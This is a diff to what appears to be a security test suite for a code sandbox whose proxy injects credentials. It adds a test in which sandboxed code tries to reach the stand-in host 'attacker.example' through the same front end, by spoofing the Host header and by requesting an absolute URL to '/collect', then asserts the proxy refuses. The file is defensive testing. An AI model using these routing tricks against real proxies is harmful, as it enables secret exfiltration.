@@ -22,6 +22,19 @@ def main(url):
 NODE = """
 async function main(a) { const r = await fetch(a.url); return await r.json(); }
 """
+OTHER_HOST = """
+import http.client, json
+def main(api, other):
+    out = {}
+    c = http.client.HTTPSConnection(api, timeout=10)
+    c.putrequest("GET", "/h", skip_host=True); c.putheader("Host", other); c.endheaders()
+    out["host_header"] = json.loads(c.getresponse().read())
+    c = http.client.HTTPSConnection(api, timeout=10)
+    c.request("GET", f"https://{other}/collect")
+    r = c.getresponse()
+    out["absolute"] = [r.status, r.read().decode()]
+    return out
+"""
 LEAK = """
 import os
 hits = [k for k, v in os.environ.items() if "{s}" in v]
@@ -56,6 +69,11 @@ def _check(p, iid, fakenet, api):
     # a host without credentials is not intercepted: its own certificate, no header
     r = p.execute_code(iid, PY, "python", 30, {"url": f"https://{fakenet.name('www')}/"})
     assert "CERTIFICATE_VERIFY_FAILED" in r.stderr, r  # the fake CA is not in the box's trust store
+    # the box cannot send the secret to another site behind the same front end (Host, absolute URL)
+    r = p.execute_code(iid, OTHER_HOST, "python", 30, {"api": api, "other": "attacker.example"})
+    assert r.exit_code == 0, r
+    assert r.result["host_header"]["host"] == api and r.result["host_header"]["path"] == "/h", r.result
+    assert r.result["absolute"][0] == 400 and "another host" in r.result["absolute"][1], r.result
     r = p.execute_code(iid, LEAK.replace("{s}", SECRET[:20]), "python", 60)
     assert r.stdout.strip() == "[]", r
     assert SECRET not in json.dumps(p.effective_network(iid))
